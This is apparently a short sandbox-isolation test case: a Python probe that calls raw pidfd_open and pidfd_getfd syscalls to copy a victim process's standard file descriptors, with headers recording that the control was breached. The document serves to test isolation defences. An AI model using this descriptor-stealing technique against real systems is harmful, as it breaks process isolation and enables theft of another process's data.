# EXPECT: no descriptor of another process can be fetched
# OUTCOME: succeeded
# CONTROL: breaches
import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
handle = l.syscall(434, __VICTIM__, 0)
for fd in range(3):
    if l.syscall(438, handle, fd, 0) >= 0: print('CANARY fetched', fd)
print(handle, ctypes.get_errno())
